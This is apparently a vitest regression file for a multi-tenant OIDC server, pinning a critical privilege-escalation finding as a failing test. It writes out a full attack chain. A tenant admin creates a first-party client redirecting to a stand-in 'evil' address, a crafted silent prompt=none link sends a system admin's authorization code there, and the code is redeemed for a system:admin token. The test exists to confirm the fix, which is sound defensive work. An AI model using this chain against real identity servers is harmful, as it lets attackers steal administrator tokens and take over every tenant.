/**
 * Findings of the second attack on issue 9's fixes, each pinned as a test that fails while
 * the defect exists (`it.fails`): the body asserts the correct behaviour, so once the defect
 * is fixed the test passes and `it.fails` must become `it`. Each comment says what the test
 * shows, the correct behaviour, and where the cause is.
 * @see issue 9
 */
import { decodeJwt } from 'jose';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { Browser } from './helpers/browser.js';
import { dialects } from './helpers/databases.js';
import { pkce, tokenRequest } from './helpers/oidc.js';
import { apiClient, createApiKey, startTestServer, type TestServer } from './helpers/server.js';

const evilRedirect = 'http://127.0.0.1:9/evil';

describe.each(dialects)('attack findings (%s)', (dialect) => {
  let ts: TestServer;

  beforeAll(async () => {
    ts = await startTestServer(dialect);
  });
  afterAll(async () => {
    await ts?.close();
  });

  /**
   * Finding 1 (critical): `tenant:admin` of the `system` tenant obtains a `system:admin` token.
   * It may make a first-party application there (its reach counts as "tenant-wide", which it
   * holds), and a first-party application signs in any user of the tenant silently, including
   * every `system:admin`: one crafted `/t/system/auth?prompt=none&resource={PUBLIC_URL}/api`
   * link opened by a signed-in system admin yields a code, and the code a token with
   * `roles: ["system:admin"]`, which reads and changes every tenant.
   * Correct: in the system tenant a first-party application (creating one, making one first
   * party, moving its redirect URIs, rotating its secret) reaches `system:admin` (whoever holds
   * it there can be signed in), so only a `system:admin` may do it: 403 `forbidden` with
   * `missing.systemWide`. Cause: `reachOf` in clients/service.ts gives a first-party
   * application `TENANT_WIDE` regardless of the tenant; grants.ts `shortfall` then lets a
   * tenant admin of `system` through.
   */
  it.fails('tenant:admin of the system tenant cannot make a first-party application that yields system:admin', async () => {
    const key = await createApiKey(ts.api, 'system', ['tenant:admin'], 'system tenant admin');
    const attacker = apiClient(ts.url, key);
    // Not system-wide: it cannot make a tenant.
    expect((await attacker('POST', '/api/v1/tenants', { body: { slug: 'nope', displayName: 'x' } })).status).toBe(403);
    const app = await attacker('POST', '/api/v1/tenants/system/clients', {
      body: { kind: 'web', name: 'Helpful', redirectUris: [evilRedirect], firstParty: true },
    });
    // What the correct answer is; today 201, and the rest below shows what that yields.
    if (app.status === 201) {
      const token = await systemAdminSignsInThrough(ts, app.body.clientId, app.body.clientSecret);
      expect(decodeJwt(token).roles).toEqual(['system:admin']);
      const tenants = await apiClient(ts.url, token)('POST', '/api/v1/tenants', {
        body: { slug: `stolen-${dialect}`, displayName: 'Made with a stolen token' },
      });
      expect(tenants.status, 'the token acts as system:admin').toBe(201);
    }
    expect(app.status, app.text).toBe(403);
  });
});

/** The bootstrap system admin signs in to the system tenant, then opens a crafted prompt=none link. */
async function systemAdminSignsInThrough(ts: TestServer, clientId: string, clientSecret: string): Promise<string> {
  const browser = new Browser();
  const stopAt = (u: URL) => u.href.startsWith(evilRedirect);
  const link = (extra: Record<string, string>) => {
    const { verifier, challenge } = pkce();
    const q = new URLSearchParams({
      client_id: clientId,
      response_type: 'code',
      redirect_uri: evilRedirect,
      scope: 'openid',
      code_challenge: challenge,
      code_challenge_method: 'S256',
      resource: `${ts.url}/api`,
      ...extra,
    });
    return { url: `${ts.url}/t/system/auth?${q}`, verifier };
  };
  // The admin signs in (here through the same application; the console's session does the same).
  const first = link({});
  const page = await browser.go(first.url, { stopAt });
  await browser.submit(page, { email: ts.adminEmail, password: ts.adminPassword }, { stopAt });
  // Later, the crafted link: no page is shown, the code goes to the attacker.
  const crafted = link({ prompt: 'none' });
  const done = await browser.go(crafted.url, { stopAt });
  const code = done.url.searchParams.get('code');
  expect(code, done.url.href).toBeTruthy();
  const token = await tokenRequest(
    ts,
    'system',
    { grant_type: 'authorization_code', code: code ?? '', redirect_uri: evilRedirect, code_verifier: crafted.verifier },
    { id: clientId, secret: clientSecret },
  );
  expect(token.status, JSON.stringify(token.body)).toBe(200);
  return token.body.access_token as string;
}
